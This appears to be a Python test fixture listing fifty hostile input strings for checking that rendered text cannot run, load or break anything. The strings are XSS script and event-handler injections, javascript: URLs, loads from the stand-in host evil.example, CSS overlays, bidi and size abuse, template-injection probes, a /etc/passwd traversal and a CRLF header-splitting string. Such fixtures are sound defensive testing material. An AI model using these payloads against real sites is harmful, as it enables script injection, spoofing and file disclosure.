"""Fifty texts that try to run, load, leave or break something where they are shown.

What would run says so by `PWNED`, and what would load does so from `EVIL`.
"""

from __future__ import annotations

EVIL = "evil.example"
_RUN = "window.PWNED=1;top.PWNED=1;alert(1)"

PAYLOADS: tuple[str, ...] = (
    # scripts
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=http://{EVIL}/x.js></SCRIPT>",
    f"<script type=module>import 'http://{EVIL}/m.js';{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"<!--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<xmp><script>{_RUN}</script></xmp><plaintext>",
    # handlers
    f"<img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"<a onclick={_RUN} href=# name=go>click me</a>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_RUN}>x</b>",
    # addresses
    f"<a href=javascript:{_RUN} name=link>link</a>",
    f"<a href='java&#10;script:{_RUN}' name=link>link</a>",
    f"javascript:{_RUN}",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=http://{EVIL}/o></object><embed src=http://{EVIL}/e>",
    f"<form action=http://{EVIL}/f><button name=send>send</button></form>",
    f"<button form=x formaction=javascript:{_RUN} name=b>b</button>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/refresh'>",
    f"<base href=http://{EVIL}/><base target=_top>",
    f"<link rel=stylesheet href=http://{EVIL}/s.css><link rel=prefetch href=http://{EVIL}/p>",
    f"<link rel=dns-prefetch href=//{EVIL}><link rel=preconnect href=//{EVIL}>",
    f"<img src=http://{EVIL}/i.png srcset='http://{EVIL}/2.png 2x' name=picture>",
    f"data:text/html,<script>{_RUN}</script>",
    # style
    f"<div style='position:fixed;inset:0;background:url(http://{EVIL}/c);z-index:99999'>over all</div>",
    f"<style>*{{display:none!important;background:url(http://{EVIL}/b)}} @import 'http://{EVIL}/a.css';</style>",
    f"}}</style><style>body{{background:url(http://{EVIL}/d)}}",
    f"</style><link rel=stylesheet href=http://{EVIL}/t.css><style>",
    # size and direction
    "A" * 100_000,
    "wide " + "\u2001" * 500 + "\U0001f4a5" * 3_000,
    "\u202e\u2067 drawkcab \u202e" + "\u0300" * 300 + "\u200f",
    "<div>" * 3_000 + "deep",
    # templates and formats
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7} #{7*7} <%= 7*7 %>",
    "../../../../etc/passwd%00/..%2f..\\..\\",
    "\x01\x07\x1b[31m\r\nSet-Cookie: pwned=1\r\n\r\n<h1>split</h1>\x7f",
)
